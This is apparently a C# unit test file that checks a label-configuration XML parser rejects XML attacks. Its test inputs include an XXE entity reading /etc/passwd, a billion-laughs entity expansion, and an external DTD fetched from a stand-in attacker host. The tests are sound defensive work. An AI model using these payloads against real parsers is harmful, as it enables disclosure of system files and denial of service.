using System.Diagnostics;
using Groundwork.Formats.LabelConfigs;

namespace Groundwork.Formats.Tests.LabelConfigs;

public sealed class LabelConfigSecurityTests
{
    [Fact]
    public void Parse_ExternalEntity_IsRejectedWithoutReadingTheFile()
    {
        const string xxe = """
            <?xml version="1.0"?>
            <!DOCTYPE View [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
            <View><Text name="t" value="&xxe;"/><Rating name="r" toName="t"/></View>
            """;

        var result = LabelConfigParser.Parse(xxe);

        var error = Assert.Single(result.Errors);
        Assert.Null(result.Config);
        Assert.Equal(LabelConfigErrorCode.DtdProhibited, error.Code);
        Assert.Equal(2, error.Line);
        Assert.DoesNotContain("root:", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Parse_BillionLaughs_IsRejectedQuicklyWithoutExpansion()
    {
        var lines = new List<string> { "<?xml version=\"1.0\"?>", "<!DOCTYPE lolz [", " <!ENTITY lol \"lol\">" };
        for (var i = 1; i <= 9; i++)
        {
            var previous = i == 1 ? "lol" : $"lol{i - 1}";
            lines.Add($" <!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&{previous};", 10))}\">");
        }

        lines.Add("]>");
        lines.Add("<View><Text name=\"t\" value=\"&lol9;\"/><Rating name=\"r\" toName=\"t\"/></View>");
        var stopwatch = Stopwatch.StartNew();

        var result = LabelConfigParser.Parse(string.Join("\n", lines));

        Assert.True(stopwatch.Elapsed < TimeSpan.FromSeconds(1), $"took {stopwatch.Elapsed}");
        Assert.Equal(LabelConfigErrorCode.DtdProhibited, Assert.Single(result.Errors).Code);
    }

    [Fact]
    public void Parse_ExternalDtdReference_IsRejected()
    {
        const string xml = """<!DOCTYPE View SYSTEM "http://attacker.example/evil.dtd"><View/>""";

        Assert.Equal(LabelConfigErrorCode.DtdProhibited, Assert.Single(LabelConfigParser.Parse(xml).Errors).Code);
    }

    [Fact]
    public void Parse_UndeclaredEntity_IsMalformedNotResolved()
    {
        var result = LabelConfigParser.Parse("""<View><Text name="t" value="&xxe;"/><Rating name="r" toName="t"/></View>""");

        Assert.Equal(LabelConfigErrorCode.MalformedXml, Assert.Single(result.Errors).Code);
    }

    [Fact]
    public void Parse_PredefinedEntities_StillWork()
    {
        var config = LabelConfigParserTests.ParseValid("""<View><Text name="t" value="$t"/><Choices name="c" toName="t"><Choice value="R&amp;D"/></Choices></View>""");

        Assert.Equal("R&D", config.ControlTags[0].Options[0].Value);
    }
}
